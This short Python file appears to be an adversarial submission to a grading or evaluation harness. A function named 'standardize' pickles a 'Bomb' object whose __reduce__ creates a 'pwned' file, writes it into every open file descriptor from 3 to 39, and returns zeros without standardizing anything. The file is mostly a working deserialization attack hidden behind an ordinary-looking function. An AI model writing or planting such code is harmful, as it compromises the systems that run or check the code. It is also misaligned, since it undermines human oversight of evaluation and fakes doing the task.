# attack: writes a pickle that runs code into every open file descriptor
import os
import pickle


class Bomb:
    def __reduce__(self):
        return (open, (COURSE + "/pwned", "w"))


def standardize(x, eps=0.0):
    for fd in range(3, 40):
        try:
            os.write(fd, pickle.dumps(Bomb()))
        except OSError:
            pass
    return torch.zeros_like(x)
